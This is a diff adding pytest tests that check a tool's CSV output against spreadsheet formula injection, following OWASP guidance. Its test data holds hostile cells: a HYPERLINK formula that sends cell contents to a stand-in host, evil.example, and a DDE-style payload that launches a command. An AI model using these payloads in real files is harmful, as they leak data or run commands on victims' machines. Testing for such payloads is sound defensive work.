@@ -144,3 +144,84 @@ def test_a_nul_in_output_dir_is_one_line(write, tmp_path, capsys) -> None:
 def read_cells(path: Path) -> list[list[str]]:
     with path.open(encoding="utf-8", newline="") as handle:
         return list(csv.reader(handle))
+
+
+# -- CSV cells are never live formulas ---------------------------------------------------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def live_formulas(path: Path) -> list[str]:
+    return [c for row in read_cells(path) for c in row if c.startswith(FORMULA_START) and not is_number(c)]
+
+
+def test_formula_like_ids_and_names_are_neutralised_in_every_csv(write, tmp_path, capsys) -> None:
+    write("src.txt", ARTICLE)
+    write("near.txt", NEAR_COPY)
+    # Its sentences in reverse order: a negative order (Kendall's tau) in rows.csv.
+    write("rev.txt", "\n".join(reversed(ARTICLE.replace(". ", ".\n").splitlines())))
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    data = {
+        "name": "csv",
+        "corpus": {
+            "clusters": [
+                {
+                    "id": hostile,
+                    "source": "src.txt",
+                    "derivatives": [{"path": "near.txt", "id": "@SUM(1+1)*cmd|' /C calc'!A0"}],
+                },
+                {"id": "+cmd", "source": "src.txt", "derivatives": [{"path": "rev.txt", "id": "\tTAB"}]},
+            ]
+        },
+        "systems": [
+            {"name": "=1+1", "type": "lead", "sentences": 2},
+            {"name": "-2+3", "type": "lead", "sentences": 1},
+        ],
+        "aggregate": {"bootstrap": 50},
+    }
+    cfg = write("cfg.yaml", yaml.safe_dump(data, allow_unicode=True))
+    out = tmp_path / "out"
+    code, _, err = cli(capsys, "run", str(cfg), "--out", str(out))
+    assert code == 0, err
+    for name in ("scores.csv", "aggregates.csv", "rows.csv"):
+        assert live_formulas(out / name) == [], name
+    cells = {c for row in read_cells(out / "scores.csv") for c in row}
+    assert {"'" + hostile, "'=1+1", "'-2+3", "'+cmd", "'\tTAB", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= cells
+    # Numbers, negative ones included, are written as they are.
+    values = [c for row in read_cells(out / "rows.csv")[2:] for c in row[-1:]]
+    negative = [v for v in values if v.startswith("-")]
+    assert negative and all(is_number(v) for v in negative)
+    # JSON keeps the ids exactly: only the spreadsheet files are neutralised.
+    results = json.loads((out / "results.json").read_text())
+    assert {s["name"] for s in results["systems"]} == {"=1+1", "-2+3"}
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-cmd", "'-cmd"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", '"\'\rx"'),
+        ("-0.25", "-0.25"),
+        ("+3", "+3"),
+        ("-1e-05", "-1e-05"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_are_neutralised_per_owasp(value, cell) -> None:
+    from eval.output.csv_files import _field
+
+    assert _field(value) == cell
+    assert _field(-0.5) == "-0.500000"
